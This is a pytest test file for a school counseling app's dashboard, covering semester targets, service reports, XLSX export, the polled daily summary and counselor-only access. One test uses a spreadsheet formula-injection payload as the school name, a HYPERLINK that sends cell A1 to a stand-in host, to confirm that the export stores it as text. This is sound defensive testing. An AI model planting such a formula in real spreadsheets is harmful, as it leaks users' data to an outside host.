"""The counselor's dashboard: today's summary (polled), semester targets computed on known
data, and the service delivery report with its XLSX, and the BK programme."""

import io
import re
import time
from datetime import date
from datetime import datetime
from datetime import timedelta

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from cyberbk.accounts.models import Role
from cyberbk.assessments import services as assessment_services
from cyberbk.assessments.models import Instrument
from cyberbk.assessments.models import ItemType
from cyberbk.assessments.models import Participation
from cyberbk.audit.models import AuditEntry
from cyberbk.booking.models import Booking
from cyberbk.booking.models import BookingStatus
from cyberbk.booking.models import CounselingCase
from cyberbk.booking.models import SessionRecord
from cyberbk.common.schooltime import day_bounds
from cyberbk.common.schooltime import local_today
from cyberbk.common.schooltime import to_utc
from cyberbk.common.schooltime import utcnow
from cyberbk.common.vocabulary import Mode
from cyberbk.common.vocabulary import ServiceField
from cyberbk.dashboard import periods
from cyberbk.dashboard import reports
from cyberbk.dashboard import targets
from cyberbk.extensions import db
from cyberbk.outreach.models import ServiceComponent
from cyberbk.school.services import get_settings
from cyberbk.outreach.models import ServicePlan
from cyberbk.problembox.models import ProblemMessage
from cyberbk.problembox.models import ProblemReport
from cyberbk.problembox.models import ReportStatus
from tests import factories
from tests import test_assessments as assessment_helpers

GANJIL_2025 = periods.parse_semester("2025-ganjil")
AUGUST_2025 = periods.parse_month("2025-08")


def local(*args):
    """A wall-clock time at the school (Asia/Jakarta) as the naive UTC the database holds."""
    return to_utc(datetime(*args))


# Builders of known data, shared by the other dashboard tests.

def add_record(student, counselor, held_at, mode=Mode.FACE, field=ServiceField.PERSONAL,
               summary="Ringkasan sesi", case=None):
    case = case or CounselingCase(student=student, counselor=counselor)
    record = SessionRecord(case=case, counselor_id=counselor.id, held_at=held_at, mode=mode,
                           field=field, topic="Topik", summary=summary)
    db.session.add(record)
    db.session.commit()
    return record


def add_report(created_at, field=None, author=None, answered_after=None, counselor=None,
               body="Aku susah tidur.", closed_at=None):
    report = ProblemReport(code_digest=f"digest-{created_at.isoformat()}-{body}", body=body,
                           field=field, author_id=author.id if author else None,
                           created_at=created_at, closed_at=closed_at,
                           status=ReportStatus.CLOSED if closed_at else ReportStatus.NEW)
    db.session.add(report)
    if answered_after is not None:
        report.messages.append(ProblemMessage(from_counselor=True, counselor_id=counselor.id,
                                              body="Terima kasih sudah bercerita.",
                                              created_at=created_at + answered_after))
    db.session.commit()
    return report


def add_plan(held_on, component=ServiceComponent.BASIC, field=ServiceField.LEARNING,
             title="Cara belajar efektif", school_class=None):
    plan = ServicePlan(title=title, component=component, field=field, held_on=held_on,
                       class_id=school_class.id if school_class else None)
    db.session.add(plan)
    db.session.commit()
    return plan


def builtin(key):
    assessment_services.ensure_builtin_instruments()
    db.session.commit()
    return db.session.scalar(sa.select(Instrument).where(Instrument.builtin_key == key))


def give_between(instrument, opens, closes):
    return assessment_helpers.give(instrument, opens=opens, closes=closes)


def add_evaluation(administration, student, choices, submitted_at):
    """A submitted session evaluation with the given 0-based choices on its 1–4 items,
    plus an answer on a question that is not on the scale."""
    items = administration.instrument.items
    scale = [item for item in items if item.type == ItemType.LIKERT4]
    single = next(item for item in items if item.type == ItemType.SINGLE)
    answers = list(zip(scale, choices)) + [(single, 2)]
    response = assessment_helpers.add_response(administration, student, answers)
    response.submitted_at = submitted_at
    db.session.commit()
    return response


@pytest.fixture
def service_data(school):
    """Six services in August 2025 and one each just outside it, computed by hand:

      what                          mode   field    class
      record  siswa.a               chat   pribadi  7A
      record  siswa.a               video  belajar  7A
      record  siswa.b               face   sosial   7B
      record  siswa.8a              face   karier   8A
      report  anonymous             kotak  sosial   -
      report  siswa.b (with name)   kotak  karier   7B
    """
    counselor = school["counselor"]
    class_8a = factories.make_class("8A")
    student_8a = factories.make_user(Role.STUDENT, "siswa.8a", "Siswa 8A", school_class=class_8a)
    a, b = school["student_a"], school["student_b"]
    add_record(a, counselor, local(2025, 8, 4, 9), Mode.CHAT, ServiceField.PERSONAL)
    add_record(a, counselor, local(2025, 8, 11, 9), Mode.VIDEO, ServiceField.LEARNING)
    add_record(b, counselor, local(2025, 8, 12, 9), Mode.FACE, ServiceField.SOCIAL)
    add_record(student_8a, counselor, local(2025, 8, 31, 23, 30), Mode.FACE, ServiceField.CAREER)
    add_report(local(2025, 8, 1, 0), ServiceField.SOCIAL)
    add_report(local(2025, 8, 20, 10), ServiceField.CAREER, author=b)
    # Outside August in the school's zone, though the first is still 31 July in UTC.
    add_record(a, counselor, local(2025, 9, 1, 0, 30), Mode.CHAT, ServiceField.PERSONAL)
    add_report(local(2025, 7, 31, 23), ServiceField.LEARNING)
    return school


# Periods.

def test_semesters_follow_the_indonesian_school_year():
    assert periods.semester(date(2025, 7, 1)).key == "2025-ganjil"
    assert periods.semester(date(2025, 12, 31)).key == "2025-ganjil"
    assert periods.semester(date(2026, 1, 1)).key == "2025-genap"
    genap = periods.parse_semester("2025-genap")
    assert (genap.first, genap.end) == (date(2026, 1, 1), date(2026, 7, 1))
    assert genap.label == "Semester genap 2025/2026"
    assert periods.parse_semester("2025-ketiga") is None
    assert periods.parse_month("2025-13") is None
    assert periods.parse_year("2025").months()[0].key == "2025-07"


def test_period_bounds_are_midnight_in_the_school_zone(app):
    start, end = AUGUST_2025.utc_bounds
    # Asia/Jakarta is UTC+7.
    assert start == datetime(2025, 7, 31, 17)
    assert end == datetime(2025, 8, 31, 17)


# Targets.

@pytest.fixture
def target_data(school):
    """Known data for the five measures in semester ganjil 2025, with hand results:

    sessions: 3 records in the semester (one at 23.30 on 31 December local time), one just
      after it                                                        -> 3
    checklist: 4 active students, 2 of them answered (a third answered but left school)
                                                                      -> 50 %
    classroom guidance: 2 layanan dasar RPLs in the semester; a responsive one and one of
      the semester before do not count                                -> 2
    answered within 24 h: 12 h (yes), 48 h (no), never (no)           -> 1 of 3
    evaluation: scale answers 4, 3 and 2 this semester; 1 in the next -> 3.0
    """
    counselor, a, b = school["counselor"], school["student_a"], school["student_b"]
    extra = factories.make_user(Role.STUDENT, "siswa.c", "Siswa C", school_class=school["class_a"])
    factories.make_user(Role.STUDENT, "siswa.d", "Siswa D", school_class=school["class_b"])
    left = factories.make_user(Role.STUDENT, "siswa.e", "Siswa E", school_class=school["class_b"])
    left.is_active_account = False

    add_record(a, counselor, local(2025, 8, 4, 9))
    add_record(b, counselor, local(2025, 10, 4, 9))
    add_record(a, counselor, local(2025, 12, 31, 23, 30))
    add_record(a, counselor, local(2026, 1, 1, 0, 30))

    checklist = give_between(builtin("daftar-cek-masalah"), local(2025, 7, 20, 7),
                             local(2025, 8, 20, 7))
    for student in (a, b, left):
        db.session.add(Participation(administration_id=checklist.id, user_id=student.id))
    earlier = give_between(builtin("daftar-cek-masalah"), local(2025, 2, 1, 7),
                           local(2025, 3, 1, 7))
    db.session.add(Participation(administration_id=earlier.id, user_id=extra.id))

    add_plan(date(2025, 8, 5))
    add_plan(date(2025, 11, 5), field=ServiceField.CAREER)
    add_plan(date(2025, 9, 5), component=ServiceComponent.RESPONSIVE)
    add_plan(date(2025, 6, 5))

    add_report(local(2025, 8, 1, 8), answered_after=timedelta(hours=12), counselor=counselor)
    add_report(local(2025, 8, 2, 8), answered_after=timedelta(hours=48), counselor=counselor)
    add_report(local(2025, 8, 3, 8))

    evaluation = give_between(builtin("evaluasi-sesi"), local(2025, 7, 20, 7),
                              local(2026, 6, 1, 7))
    add_evaluation(evaluation, a, [3, 2], local(2025, 9, 1, 10))
    add_evaluation(evaluation, b, [1], local(2025, 9, 2, 10))
    add_evaluation(evaluation, extra, [0], local(2026, 2, 2, 10))
    db.session.commit()
    return school


def test_target_progress_is_computed_on_known_data(target_data):
    measured = {p.metric.key: p.measure for p in targets.progress(GANJIL_2025)}
    assert measured["individual_sessions"].value == 3
    assert measured["checklist_share"].value == pytest.approx(50.0)
    assert measured["checklist_share"].parts == (2, 4)
    assert measured["classroom_guidance"].value == 2
    assert measured["response_24h"].value == pytest.approx(100 / 3)
    assert measured["response_24h"].parts == (1, 3)
    assert measured["evaluation_score"].value == pytest.approx(3.0)


def test_progress_against_targets_caps_the_bar_at_the_target(target_data, app):
    targets.save_targets(GANJIL_2025, {"individual_sessions": 4, "classroom_guidance": 1,
                                       "evaluation_score": 3.5}, target_data["counselor"])
    progress = {p.metric.key: p for p in targets.progress(GANJIL_2025)}
    assert progress["individual_sessions"].percent == pytest.approx(75.0)
    assert not progress["individual_sessions"].reached
    assert progress["classroom_guidance"].percent == 100.0
    assert progress["classroom_guidance"].reached
    assert progress["checklist_share"].percent is None


def test_a_report_still_inside_its_first_day_is_not_yet_due(school):
    now = utcnow()
    add_report(now - timedelta(hours=2))
    measure = targets.response_within_24h(periods.current_semester(), now=now)
    assert measure.value is None and measure.parts == (0, 0)


def test_counselor_sets_targets_and_sees_svg_bars(client, auth, target_data):
    auth.login("guru.a")
    response = client.post("/bk/target?semester=2025-ganjil",
                           data={"individual_sessions": "6", "checklist_share": "80",
                                 "classroom_guidance": "", "response_24h": "90",
                                 "evaluation_score": "3.2"})
    assert response.status_code == 303
    assert targets.targets_for(GANJIL_2025) == {"individual_sessions": 6, "checklist_share": 80,
                                                "response_24h": 90, "evaluation_score": 3.2}
    page = client.get("/bk/target?semester=2025-ganjil").get_data(as_text=True)
    assert "Semester ganjil 2025/2026" in page
    bars = re.findall(r'<rect class="db-bar-fill[^"]*"[^>]*width="([\d.]+)"', page)
    assert bars == ["50.0", "62.5", "37.0", "93.8"]
    assert "style=" not in page

    # An empty field removes a target; another semester keeps its own.
    client.post("/bk/target?semester=2025-ganjil", data={"individual_sessions": "6"})
    assert targets.targets_for(GANJIL_2025) == {"individual_sessions": 6}
    assert targets.targets_for(periods.parse_semester("2025-genap")) == {}


@pytest.mark.parametrize("data", [{"checklist_share": "120"}, {"individual_sessions": "-1"},
                                  {"evaluation_score": "5"}, {"response_24h": "banyak"}])
def test_impossible_targets_are_refused_with_a_message(client, auth, school, data):
    auth.login("guru.a")
    response = client.post("/bk/target", data=data)
    assert response.status_code == 400
    assert 'class="error"' in response.get_data(as_text=True)
    assert targets.targets_for(periods.current_semester()) == {}


def test_unknown_semester_is_a_400_not_a_500(client, auth, school):
    auth.login("guru.a")
    assert client.get("/bk/target?semester=2025-ketiga").status_code == 400
    assert client.get("/bk/laporan?periode=kemarin").status_code == 400
    assert client.get("/bk/program?tahun=20x5").status_code == 400


# The service delivery report.

def test_report_counts_per_field_mode_class_and_grade(service_data):
    report = reports.service_report(AUGUST_2025)
    assert report.total == 6
    assert report.by_field == [("pribadi", 1), ("sosial", 2), ("belajar", 1), ("karier", 2)]
    assert report.by_mode == [("chat", 1), ("video", 1), ("face", 2), ("kotak", 2)]
    assert report.cell("sosial", "kotak") == 1 and report.cell("sosial", "face") == 1
    assert report.by_class == [("7A", 7, 2), ("7B", 7, 2), ("8A", 8, 1), (None, None, 1)]
    assert report.by_grade == [(7, 4), (8, 1), (None, 1)]


def test_semester_report_holds_every_month(service_data):
    report = reports.service_report(GANJIL_2025)
    assert report.total == 8
    assert dict(report.by_mode) == {"chat": 2, "video": 1, "face": 2, "kotak": 3}


def test_report_counts_classroom_guidance_held(school):
    add_plan(date(2025, 8, 5))
    add_plan(date(2025, 8, 6), field=ServiceField.CAREER)
    add_plan(date(2025, 8, 7), component=ServiceComponent.RESPONSIVE)
    report = reports.service_report(AUGUST_2025)
    assert report.classroom_total == 2
    assert dict(report.classroom_by_field) == {"pribadi": 0, "sosial": 0, "belajar": 1,
                                               "karier": 1, None: 0}


def test_report_page_is_printable(client, auth, service_data):
    auth.login("guru.a")
    response = client.get("/bk/laporan?periode=2025-08")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Agustus 2025" in page
    assert "data-print" in page
    assert "/bk/laporan.xlsx?periode=2025-08" in page
    assert "Tanpa kelas (anonim)" in page
    assert '<option value="2025-08" selected>' in page
    assert "style=" not in page


def test_xlsx_holds_the_counts_and_is_audited(client, auth, service_data):
    auth.login("guru.a")
    response = client.get("/bk/laporan.xlsx?periode=2025-08")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith('laporan-bk-2025-08.xlsx"')
    book = load_workbook(io.BytesIO(response.data))
    summary = [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]
    assert summary[2] == ["Agustus 2025"] + [None] * 5
    assert summary[4] == ["Bidang", "Chat", "Video", "Tatap muka", "Kotak masalah", "Jumlah"]
    assert summary[5] == ["Pribadi", 1, 0, 0, 0, 1]
    assert summary[6] == ["Sosial", 0, 0, 1, 1, 2]
    assert summary[9] == ["Jumlah", 1, 1, 2, 2, 6]
    classes = list(book.worksheets[1].iter_rows(values_only=True))
    assert classes == [("Kelas", "Tingkat", "Jumlah layanan"), ("7A", 7, 2), ("7B", 7, 2),
                       ("8A", 8, 1), ("Tanpa kelas (anonim)", None, 1)]
    grades = list(book.worksheets[2].iter_rows(values_only=True))
    assert grades[1:] == [("Kelas 7", 4), ("Kelas 8", 1), ("Tanpa kelas (anonim)", 1)]
    assert [book.worksheets[0].column_dimensions[c].width for c in "AB"] == [36, 14]
    assert book.worksheets[1].column_dimensions["A"].width == 26
    entry = db.session.scalar(sa.select(AuditEntry).where(AuditEntry.action == "export"))
    assert (entry.target_type, entry.target_id, entry.actor_id) == \
        ("service_report", "2025-08", service_data["counselor"].id)


@pytest.mark.parametrize("name", ['=HYPERLINK("https://contoh.id/?"&A1,"Klik")', "+62 812",
                                  "-1+1", "@SUM(A1)", "SMP Negeri 1"])
def test_the_school_name_goes_into_the_xlsx_as_text_never_a_formula(client, auth, service_data,
                                                                    name):
    get_settings().name = name
    db.session.commit()
    auth.login("guru.a")
    book = load_workbook(io.BytesIO(client.get("/bk/laporan.xlsx?periode=2025-08").data))
    cell = book.worksheets[0]["A2"]
    assert (cell.value, cell.data_type) == (name, "s")
    assert cell.quotePrefix == (name[0] in "=+-@")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type in ("s", "n") for cell in row if cell.value is not None)


# Today's summary.

def test_summary_counts_the_work_waiting_today(client, auth, school):
    counselor, a = school["counselor"], school["student_a"]
    now = utcnow()
    soon = now + timedelta(minutes=30)
    db.session.add(Booking(student_id=a.id, counselor_id=counselor.id, starts_at=soon,
                           ends_at=soon + timedelta(minutes=30), mode=Mode.CHAT,
                           status=BookingStatus.CONFIRMED))
    add_report(now.replace(minute=0, second=0, microsecond=0), body="Aku ingin menghilang")
    urgent = add_report(now.replace(minute=0, second=0, microsecond=0), body="Tolong aku")
    urgent.is_urgent = True
    db.session.commit()
    auth.login("guru.a")
    home = client.get("/bk").get_data(as_text=True)
    assert 'id="ringkasan-hari-ini"' in home
    assert 'hx-trigger="every 60s"' in home
    assert home.index("Ringkasan hari ini") < home.index("Kotak masalah</h2>")

    fragment = client.get("/bk/ringkasan", headers={"HX-Request": "true",
                                                    "HX-Target": "ringkasan-hari-ini"})
    text = fragment.get_data(as_text=True)
    assert "<html" not in text
    assert text.lstrip().startswith('<section id="ringkasan-hari-ini"')
    counts = dict((label.strip(), int(number)) for number, label in
                  re.findall(r"<strong>(\d+)</strong>\s*([^<]+)</a>", text))
    today_start, today_end = day_bounds(local_today())
    sessions_today = int(today_start <= soon < today_end)
    assert counts == {"sesi hari ini": sessions_today, "laporan mendesak": 1, "laporan baru": 2,
                      "pesan chat belum dibaca": 0, "rujukan menunggu": 0,
                      "permintaan orang tua": 0}
    # Without HTMX the same address is a whole page.
    assert "<html" in client.get("/bk/ringkasan").get_data(as_text=True)


ROUTES = [("GET", "/bk/ringkasan"), ("GET", "/bk/target"), ("POST", "/bk/target"),
          ("GET", "/bk/laporan"), ("GET", "/bk/laporan.xlsx"), ("GET", "/bk/program")]


@pytest.mark.parametrize("person,status", [("siswa.a", 403), ("wali.a", 403), ("operator", 403),
                                           ("guru.a", 200), (None, 302)])
@pytest.mark.parametrize("method,url", ROUTES)
def test_dashboard_pages_are_for_counselors_only(client, auth, school, person, status, method,
                                                 url):
    if person:
        auth.login(person)
    response = client.open(url, method=method, data={})
    expected = 303 if (status == 200 and method == "POST") else status
    assert response.status_code == expected


POLL = {"HX-Request": "true", "HX-Target": "ringkasan-hari-ini"}


def test_polling_is_not_activity_for_the_idle_logout(client, auth, school, app):
    auth.login("guru.a")
    idle_since = int(time.time()) - 3600
    with client.session_transaction() as session:
        session["last_seen"] = idle_since
    assert client.get("/bk/ringkasan", headers=POLL).status_code == 200
    with client.session_transaction() as session:
        assert session["last_seen"] == idle_since
    # A real visit is activity.
    client.get("/bk/ringkasan")
    with client.session_transaction() as session:
        assert session["last_seen"] > idle_since


def test_a_home_left_open_logs_out_after_the_staff_idle_time(client, auth, school, app):
    auth.login("guru.a")
    with client.session_transaction() as session:
        session["last_seen"] = int(time.time()) - app.config["STAFF_IDLE_MINUTES"] * 60 - 5
    response = client.get("/bk/ringkasan", headers=POLL)
    assert response.status_code == 302 and response.headers["Location"].startswith("/login")
    assert client.get("/bk").status_code == 302
